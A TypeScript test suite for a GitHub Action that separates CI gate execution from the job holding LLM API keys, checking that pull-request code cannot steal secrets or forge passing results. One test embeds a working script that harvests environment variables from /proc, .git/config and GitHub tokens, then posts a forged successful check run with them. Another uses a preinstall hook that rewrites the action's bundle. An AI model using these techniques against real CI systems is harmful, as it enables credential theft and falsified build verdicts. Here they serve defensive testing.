import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync } from 'node:fs'
import { isBuiltin } from 'node:module'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { writeRecord } from '../src/gates/record.js'
import { rubricHash } from '../src/rubric/hash.js'
import {
  openPullRequest,
  OWNER,
  pullRequestEvent,
  pullRequestJson,
  REPO,
  runAction,
  webhookExample,
  writeEvent,
  type ActionRun,
  type Repository
} from './helpers/action-run.js'
import { gateResult } from './helpers/evaluation.js'
import { startGitHubStandIn, type GitHubStandIn } from './helpers/github-standin.js'
import { wireAnswer } from './helpers/judge-answers.js'
import { startProviderStandIn, type StandIn } from './helpers/provider-standin.js'
import { providerVariables } from '../src/council/providers/index.js'
import { RUNNER_SERVICE_VARIABLES } from '../src/gates/environment.js'
import { actionsFolder, GATES_TOKEN, gatesJob, uploadRecord } from './helpers/split-layout.js'

/**
 * The split layout (docs/security.md, "Where the gates run"), end to end: the gates job runs the
 * gates sub-action's bundle with only a read-only token, the council job runs the action's bundle
 * with the provider keys and reads the recorded results; and the fork layout, where the council
 * runs on workflow_run. The judges fail any pull request whose diff shows `BROKEN`.
 */

const WRITE = 'ghs_council_job_write_0001'
const BOT = { login: 'github-actions[bot]', type: 'Bot' as const }
const KEYS = { OPENAI_API_KEY: 'sk-split-layout-0123456789' }
const MODELS = 'openai:gpt-5.4-nano, openai:gpt-5.5'

const RUBRIC = [
  '---',
  'dimensions: false',
  '---',
  '## Gates',
  '- `bash scripts/check.sh`',
  '## Criteria',
  '- tested: The change is tested',
  ''
].join('\n')

const BASE = {
  '.github/rubric.md': RUBRIC,
  'scripts/check.sh': 'echo checked\n',
  'src/app.ts': 'export const app = 1\n'
}

let github: GitHubStandIn
let providers: StandIn
let nextPr = 1
let nextRun = 9000
beforeAll(async () => {
  github = await startGitHubStandIn({ owner: OWNER, repo: REPO })
  github.addToken(WRITE, { ...BOT, write: true })
  // The gates job's GITHUB_TOKEN: `permissions: { contents: read }`.
  github.addToken(GATES_TOKEN, { ...BOT, write: false, actions: 'none' })
  providers = await startProviderStandIn(call => ({
    json: wireAnswer(call.schema, call.text.includes('BROKEN') ? { fail: ['tested'] } : {})
  }))
})
afterEach(() => {
  expect(github.violations).toEqual([])
})
afterAll(async () => {
  await Promise.all([github.close(), providers.close()])
})

interface PullRequest {
  readonly repo: Repository
  readonly number: number
}

function pullRequest(
  head: Record<string, string | null>,
  base: Record<string, string> = BASE
): PullRequest {
  const number = nextPr++
  return { repo: openPullRequest(github, number, base, head), number }
}

const outcome = (result: ActionRun): string =>
  `${result.outputs.verdict ?? ''} ${result.outputs.reasons ?? ''}`.trim()

/** Single-job mode: the action runs the gates itself, in the job that holds the keys. */
function singleJob(pr: PullRequest): Promise<ActionRun> {
  return runAction({
    workspace: pr.repo.dir,
    eventName: 'pull_request',
    eventPath: pullRequestEvent(pr.repo, { number: pr.number }),
    apiUrl: github.url,
    inputs: { 'github-token': WRITE, models: MODELS, 'allow-gates-with-secrets': 'true' },
    env: { ...KEYS, OPENAI_BASE_URL: providers.openaiBaseUrl }
  })
}

/** The council job of run `runId`: no gate runs here; their results are read back. */
function councilJob(pr: PullRequest, runId: number): Promise<ActionRun> {
  return runAction({
    workspace: pr.repo.dir,
    eventName: 'pull_request',
    eventPath: pullRequestEvent(pr.repo, { number: pr.number }),
    apiUrl: github.url,
    inputs: { 'github-token': WRITE, models: MODELS, gates: 'recorded' },
    env: { ...KEYS, OPENAI_BASE_URL: providers.openaiBaseUrl, GITHUB_RUN_ID: String(runId) }
  })
}

/** Both jobs of the split layout, as one workflow run. */
async function splitLayout(pr: PullRequest): Promise<{ gates: ActionRun; council: ActionRun }> {
  const runId = nextRun++
  const eventPath = pullRequestEvent(pr.repo, { number: pr.number })
  const gates = await gatesJob(github, { workspace: pr.repo.dir, eventPath, runId })
  return { gates, council: await councilJob(pr, runId) }
}

const checksOn = (pr: PullRequest) => github.checkRuns.filter(c => c.head_sha === pr.repo.headSha)

describe('the split layout gives the verdicts single-job mode gives', () => {
  it.each([
    ['gates pass, the judges pass', {}, 'PASS'],
    ['a gate fails', { 'scripts/check.sh': 'echo "2 tests failed"; exit 1\n' }, 'FAIL gate_failed'],
    [
      'the judges fail a must-have',
      { 'src/app.ts': 'export const app = BROKEN\n' },
      'FAIL criterion_failed'
    ],
    ['the gate script is gone', { 'scripts/check.sh': null }, 'FAIL gate_failed']
  ])('%s', async (_, change, expected) => {
    const head = { 'src/feature.ts': 'export const feature = 1\n', ...change }
    const single = await singleJob(pullRequest(head))
    const pr = pullRequest(head)
    const before = checksOn(pr).length
    const { gates, council } = await splitLayout(pr)
    expect(outcome(single)).toBe(expected)
    expect(outcome(council)).toBe(expected)
    // The gates job gives no verdict; its step fails exactly when a gate did not pass.
    expect(gates.outputs.verdict).toBeUndefined()
    expect(gates.code).toBe(expected.includes('gate_failed') ? 1 : 0)
    expect(council.summary).toContain('The results were recorded by the job "gates" of run')
    expect(
      checksOn(pr)
        .slice(before)
        .map(c => c.conclusion)
    ).toEqual([expected === 'PASS' ? 'success' : 'failure'])
  })
})

describe('the split layout with several rubrics', () => {
  const scoped = (paths: string, gate: string): string =>
    `---\npaths: [${paths}]\ndimensions: false\n---\n## Gates\n- \`${gate}\`\n## Criteria\n- tested: The change is tested\n`
  const SEVERAL = {
    '.github/rubrics/app.md': scoped("'src/**'", 'bash scripts/check.sh'),
    '.github/rubrics/docs.md': scoped("'docs/**'", 'touch docs-gate-ran'),
    'scripts/check.sh': 'echo checked\n',
    'src/app.ts': 'export const app = 1\n',
    'docs/guide.md': '# Guide\n'
  }

  it('runs the gates of the rubrics that apply, and each rubric reads its own', async () => {
    const pr = pullRequest({ 'src/app.ts': 'export const app = 2\n' }, SEVERAL)
    const { gates, council } = await splitLayout(pr)
    expect([gates.code, outcome(council)]).toEqual([0, 'PASS'])
    expect(existsSync(join(pr.repo.dir, 'docs-gate-ran'))).toBe(false)
    expect(
      checksOn(pr)
        .map(c => [c.name, c.conclusion])
        .sort()
    ).toEqual([
      ['rubric-council / app', 'success'],
      ['rubric-council / docs', 'success']
    ])
    expect(checksOn(pr).find(c => c.name === 'rubric-council / docs')?.output.title).toMatch(
      /^not applicable/
    )
  })

  it('a failing gate of one rubric fails that rubric', async () => {
    const pr = pullRequest(
      { 'src/app.ts': 'export const app = 2\n', 'scripts/check.sh': 'exit 1\n' },
      SEVERAL
    )
    const { gates, council } = await splitLayout(pr)
    expect([gates.code, outcome(council)]).toEqual([1, 'FAIL gate_failed'])
    expect(checksOn(pr).find(c => c.name === 'rubric-council / app')?.conclusion).toBe('failure')
  })
})

describe('in the split layout, the pull request’s code', () => {
  it('finds no key and no write token, and cannot change the check run', async () => {
    // The gate looks everywhere a secret could be: its environment, every ancestor's
    // /proc/<pid>/environ, the checkout's .git/config; and leaves a detached process behind that
    // posts a green check run with any token it found, after the job is done.
    const steal = String.raw`
const { readFileSync, writeFileSync } = require('node:fs')
const { spawn } = require('node:child_process')
const found = [JSON.stringify(process.env)]
let pid = process.ppid
while (pid > 1) {
  try { found.push(readFileSync('/proc/' + pid + '/environ', 'utf8')) } catch {}
  const status = readFileSync('/proc/' + pid + '/status', 'utf8')
  pid = Number(/^PPid:\s+(\d+)/m.exec(status)[1])
}
try { found.push(readFileSync('.git/config', 'utf8')) } catch {}
writeFileSync('stolen.txt', found.join('\n'))
const tokens = [...new Set(found.join('\n').match(/ghs_[A-Za-z0-9_]+/g) || [])]
const later = 'setTimeout(async () => { for (const t of ' + JSON.stringify(tokens) + ') {' +
  ' const r = await fetch(process.argv[1] + "/repos/${OWNER}/${REPO}/check-runs", { method: "POST",' +
  ' headers: { authorization: "token " + t, "content-type": "application/json" },' +
  ' body: JSON.stringify({ name: "rubric-council", head_sha: process.argv[2], status: "completed", conclusion: "success" }) });' +
  ' require("node:fs").appendFileSync("posted.txt", t + " " + r.status + "\\n") } }, 1500)'
spawn(process.execPath, ['-e', later, process.env.GITHUB_API_URL, process.env.HEAD], { detached: true, stdio: 'ignore' }).unref()
`
    const pr = pullRequest({
      'scripts/steal.js': steal,
      'scripts/check.sh': 'HEAD=$(git rev-parse HEAD) node scripts/steal.js\n',
      'src/app.ts': 'export const app = BROKEN\n'
    })
    const { council } = await splitLayout(pr)
    expect(outcome(council)).toBe('FAIL criterion_failed')
    await sleep(2500)
    const stolen = readFileSync(join(pr.repo.dir, 'stolen.txt'), 'utf8')
    // Yes or no, never the text: a failure would print every ancestor's environment, CI's too.
    expect(stolen.includes('PATH'), 'the gate read its environment').toBe(true)
    for (const [name, secret] of Object.entries({ key: KEYS.OPENAI_API_KEY, 'write token': WRITE }))
      expect(stolen.includes(secret), `the gate found the ${name}`).toBe(false)
    // It found the gates job's own token, which can read but not write.
    const posted = readFileSync(join(pr.repo.dir, 'posted.txt'), 'utf8').trim().split('\n')
    expect(posted).toEqual([`${GATES_TOKEN} 403`])
    expect(checksOn(pr).map(c => c.conclusion)).toEqual(['failure'])
  })

  it('cannot pass with a forged record uploaded before the gates job’s own', async () => {
    const pr = pullRequest({ 'scripts/check.sh': 'echo "1 test failed"; exit 1\n' })
    const runId = nextRun++
    const eventPath = pullRequestEvent(pr.repo, { number: pr.number })
    // Something in the job uploaded a record where every gate "passed", under the name, first.
    uploadRecord(github, runId, forgedRecord(pr))
    const gates = await gatesJob(github, { workspace: pr.repo.dir, eventPath, runId })
    expect(gates.code).toBe(1)
    expect(gates.stdout).toContain(
      '(409) Conflict: an artifact with this name already exists on the workflow run'
    )
    const council = await councilJob(pr, runId)
    expect(outcome(council)).toBe('FAIL gate_failed')
    expect(council.summary).toContain('yet its record says every gate passed')
  })

  it('does not run in another event’s scope: on workflow_dispatch the sub-action runs nothing, even on a checkout of the pull request', async () => {
    const pr = pullRequest({ 'scripts/check.sh': 'touch gate-ran.txt\n' })
    const gates = await gatesJob(github, {
      workspace: pr.repo.dir,
      eventName: 'workflow_dispatch',
      eventPath: pullRequestEvent(pr.repo, { number: pr.number }),
      runId: nextRun++,
      inputs: { 'pull-request': String(pr.number) }
    })
    expect(gates.code).toBe(2)
    expect(gates.stdout).toContain(
      "on workflow_dispatch the pull request's code would run with the workflow_dispatch run's ref, cache scope and token"
    )
    expect(existsSync(join(pr.repo.dir, 'gate-ran.txt'))).toBe(false)
  })

  it('a missing record is an error, never a pass', async () => {
    const pr = pullRequest({})
    const runId = nextRun++
    github.setRunJobs(runId, [{ name: 'gates', conclusion: 'failure' }])
    const council = await councilJob(pr, runId)
    expect(outcome(council)).toBe('FAIL gate_failed')
    expect(council.summary).toContain('recorded no gate results')
  })
})

/** A record of the review's gates where every one passed, as an attacker would write it. */
function forgedRecord(pr: PullRequest): string {
  return writeRecord({
    repository: `${OWNER}/${REPO}`,
    pullRequest: pr.number,
    headSha: pr.repo.headSha,
    rubricHash: rubricHash(RUBRIC),
    setup: [],
    gates: [gateResult('bash scripts/check.sh', 'pass', 'all good')]
  })
}

/** An npm project (no dependencies) whose install runs `script` first: a lifecycle script. */
function npmProject(script: string): Record<string, string> {
  const name = 'octo-app'
  return {
    'package.json': JSON.stringify({ name, version: '1.0.0', scripts: { preinstall: script } }),
    'package-lock.json': JSON.stringify({
      name,
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: { '': { name, version: '1.0.0' } }
    })
  }
}

const FORGE = readFileSync(join(import.meta.dirname, 'fixtures/forge-gates.cjs'), 'utf8')

describe('the setup commands run inside the gates sub-action', () => {
  it('a failed setup fails the verdict like a failed gate, and the gates do not run', async () => {
    const pr = pullRequest({ 'scripts/check.sh': 'echo checked > checked.txt\n' })
    const runId = nextRun++
    const gates = await gatesJob(github, {
      workspace: pr.repo.dir,
      eventPath: pullRequestEvent(pr.repo, { number: pr.number }),
      runId,
      setup: 'echo installing\n\n# a comment\necho "E404 no such package" && exit 3\necho never'
    })
    expect(gates.code).toBe(1)
    expect(existsSync(join(pr.repo.dir, 'checked.txt'))).toBe(false)
    const council = await councilJob(pr, runId)
    expect(outcome(council)).toBe('FAIL gate_failed')
    expect(council.summary).toContain('setup: echo installing')
    expect(council.summary).toContain('E404 no such package')
    expect(council.summary).toContain('not run: the setup command')
    expect(council.summary).not.toContain('echo never')
  })

  it('an install that rewrites the gates action and uploads a forged record never passes', async () => {
    // The pull request breaks its test (the gate fails) and adds a preinstall script
    // (fixtures/forge-gates.cjs) that, during `npm ci`, rewrites every file of the gates action's
    // bundle in the runner's actions folder to report "passed", and uploads a record of passes
    // under the artifact's name with the runtime token it reads from the action's process.
    const pr = pullRequest({
      ...npmProject('node scripts/forge.cjs'),
      'scripts/forge.cjs': FORGE,
      'scripts/check.sh': 'echo "1 test failed"; exit 1\n'
    })
    const runId = nextRun++
    const action = actionsFolder()
    const gates = await gatesJob(github, {
      workspace: pr.repo.dir,
      eventPath: pullRequestEvent(pr.repo, { number: pr.number }),
      runId,
      action,
      setup: 'npm ci --no-audit --no-fund'
    })
    const attack = readFileSync(join(pr.repo.dir, 'attack.txt'), 'utf8')
    // The attack did what it meant to: the bundle on disk is the forger's, its record is uploaded.
    expect(attack).toContain(`rewrote ${join(action, 'dist')}`)
    expect(attack).toContain(`rewrote ${join(action, '../dist/chunks')}`)
    expect(attack).toContain('uploaded {"ok":true')
    expect(readFileSync(join(action, 'dist/index.js'), 'utf8')).toContain('process.exit(0)')
    // The running action was not changed: its own results, and its upload refused, fail the job.
    expect(gates.outputs.passed).toBe('false')
    expect(gates.code).toBe(1)
    expect(gates.stdout).toContain('an artifact with this name already exists on the workflow run')
    const council = await councilJob(pr, runId)
    expect(outcome(council)).toBe('FAIL gate_failed')
    expect(council.summary).toContain('yet its record says every gate passed')
    expect(checksOn(pr).map(c => c.conclusion)).toEqual(['failure'])
  })

  it('gives setup commands and gates none of the runner’s service variables', async () => {
    const printEnv = `node -e "process.stdout.write(JSON.stringify(Object.keys(process.env)))"`
    const pr = pullRequest({ 'scripts/check.sh': `${printEnv} > gate-env.json\n` })
    const runId = nextRun++
    const gates = await gatesJob(github, {
      workspace: pr.repo.dir,
      eventPath: pullRequestEvent(pr.repo, { number: pr.number }),
      runId,
      // Every one the runner may set; the runtime token and results URL are the stand-in's.
      env: {
        ...Object.fromEntries(RUNNER_SERVICE_VARIABLES.map(name => [name, 'set-by-the-runner'])),
        ...github.runtimeFor(runId, 'gates'),
        RC_MARKER: 'kept'
      },
      setup: `${printEnv} > setup-env.json`
    })
    expect(gates.code).toBe(0)
    for (const file of ['setup-env.json', 'gate-env.json']) {
      const names = JSON.parse(readFileSync(join(pr.repo.dir, file), 'utf8')) as string[]
      expect(names, file).toContain('RC_MARKER')
      expect(
        names.filter(name => name.startsWith('ACTIONS_')),
        file
      ).toEqual([])
    }
    // The action itself had them: it uploaded its record with them.
    expect(outcome(await councilJob(pr, runId))).toBe('PASS')
  })

  it('gives setup commands and gates no provider’s key or endpoint, though the workflow sets them all', async () => {
    const printEnv = `node -e "process.stdout.write(JSON.stringify(Object.keys(process.env)))"`
    const pr = pullRequest({ 'scripts/check.sh': `${printEnv} > gate-env.json\n` })
    const runId = nextRun++
    const gates = await gatesJob(github, {
      workspace: pr.repo.dir,
      eventPath: pullRequestEvent(pr.repo, { number: pr.number }),
      runId,
      // A workflow-wide `env:` that names every provider's variables, as the provider table has them.
      env: {
        ...Object.fromEntries(providerVariables().map(name => [name, 'set-by-the-workflow'])),
        ...github.runtimeFor(runId, 'gates'),
        RC_MARKER: 'kept'
      },
      setup: `${printEnv} > setup-env.json`
    })
    expect(gates.code).toBe(0)
    for (const file of ['setup-env.json', 'gate-env.json']) {
      const names = JSON.parse(readFileSync(join(pr.repo.dir, file), 'utf8')) as string[]
      expect(names, file).toContain('RC_MARKER')
      expect(
        names.filter(name => providerVariables().includes(name)),
        file
      ).toEqual([])
    }
  })
})

describe('the fork layout', () => {
  it('gives a verdict, a comment and a check run on the head of a fork’s pull request, no secret in the gates workflow', async () => {
    const pr = pullRequest({ 'src/feature.ts': 'export const feature = 1\n' })
    // GitHub keeps a fork's head at refs/pull/N/head of the base repository, and lets a commit
    // reachable from a ref be fetched by its name.
    pr.repo.git('update-ref', `refs/pull/${pr.number}/head`, pr.repo.headSha)
    pr.repo.git('config', 'uploadpack.allowReachableSHA1InWant', 'true')
    const fork = 'contributor/octo-repo'
    github.setPullRequest(pr.number, {
      ...pullRequestJson(pr.repo, pr.number),
      head: {
        ...(pullRequestJson(pr.repo, pr.number).head as object),
        sha: pr.repo.headSha,
        repo: { full_name: fork }
      }
    })

    // The gates workflow, on pull_request from the fork: a read-only token, no secrets.
    const runId = nextRun++
    const gatesEnv = { RC_MARKER: 'gates-job' }
    const gates = await gatesJob(github, {
      workspace: pr.repo.dir,
      eventPath: pullRequestEvent(pr.repo, { number: pr.number }),
      runId,
      env: gatesEnv
    })
    expect(gates.code).toBe(0)
    github.setWorkflowRun({
      id: runId,
      head_sha: pr.repo.headSha,
      name: 'Rubric Council gates',
      head_repository: fork,
      pull_requests: []
    })

    // The council workflow, on workflow_run: the base branch checked out, the keys present.
    const base = mkdtempSync(join(tmpdir(), 'rc-fork-council-'))
    execFileSync('git', [
      'clone',
      '-q',
      '--depth=1',
      '--branch',
      'main',
      `file://${pr.repo.dir}`,
      base
    ])
    const example = webhookExample('workflow_run', 'completed')
    const eventPath = writeEvent({
      ...example,
      action: 'completed',
      workflow_run: {
        ...(example.workflow_run as object),
        id: runId,
        run_attempt: 1,
        head_sha: pr.repo.headSha,
        conclusion: 'success',
        event: 'pull_request',
        pull_requests: []
      },
      repository: { ...(example.repository as object), name: REPO, full_name: `${OWNER}/${REPO}` }
    })
    const council = await runAction({
      workspace: base,
      eventName: 'workflow_run',
      eventPath,
      apiUrl: github.url,
      inputs: { 'github-token': WRITE, models: MODELS, gates: 'recorded' },
      env: { ...KEYS, OPENAI_BASE_URL: providers.openaiBaseUrl, GITHUB_RUN_ID: '9999' }
    })
    expect(outcome(council)).toBe('PASS')
    expect(github.comments.get(pr.number)?.[0]?.body).toContain('Rubric Council: PASS')
    expect(checksOn(pr).map(c => [c.name, c.conclusion])).toEqual([['rubric-council', 'success']])
    // The judges saw the fork's change, fetched by commit without running anything.
    expect(providers.calls.at(-1)?.text).toContain('+export const feature = 1')
    expect(existsSync(join(base, 'src/feature.ts'))).toBe(false)
  })
})

describe('the gates sub-action’s bundle', () => {
  it('loads every file it can ever load before it runs: nothing is read from disk after the pull request’s code', () => {
    const entry = join(import.meta.dirname, '..', 'gates/dist/index.js')
    /** The bundle files `file` imports, statically or by import(), as absolute paths. */
    const importsOf = (file: string): string[] =>
      [
        ...readFileSync(file, 'utf8').matchAll(
          /(?:\bfrom\s*|\bimport\s*|\bimport\(\s*)"(\.{1,2}\/[^"]+)"/g
        )
      ].map(([, path]) => join(dirname(file), path ?? ''))
    const reachable = new Set([entry])
    for (const file of reachable) for (const imported of importsOf(file)) reachable.add(imported)
    // Nor from a node_modules folder above it (the pull request could put one there): an import
    // names Node's own modules or a file of the bundle (scripts/bundle.mjs checks require() too).
    for (const file of reachable) {
      const bare = readFileSync(file, 'utf8').matchAll(
        /(?:\bfrom\s*|\bimport\s*|\bimport\(\s*|\brequire\(\s*)"(@?[a-z][\w.@/-]*)"/g
      )
      for (const [, name] of bare) expect(isBuiltin(name ?? ''), `${file}: ${name}`).toBe(true)
    }
    reachable.delete(entry)
    expect(reachable.size).toBeGreaterThan(0)
    for (const file of reachable) expect(existsSync(file), file).toBe(true)
    // Each of them is a static import at the top of the entry, evaluated before the action's code;
    // a later import() of the same file gets the module already loaded (Node caches ES modules by
    // URL).
    const lines = readFileSync(entry, 'utf8').split('\n')
    const first = lines.slice(0, reachable.size).map(line => /^import "([^"]+)";$/.exec(line)?.[1])
    expect(first.map(path => join(dirname(entry), path ?? '')).sort()).toEqual(
      [...reachable].sort()
    )
  })
})
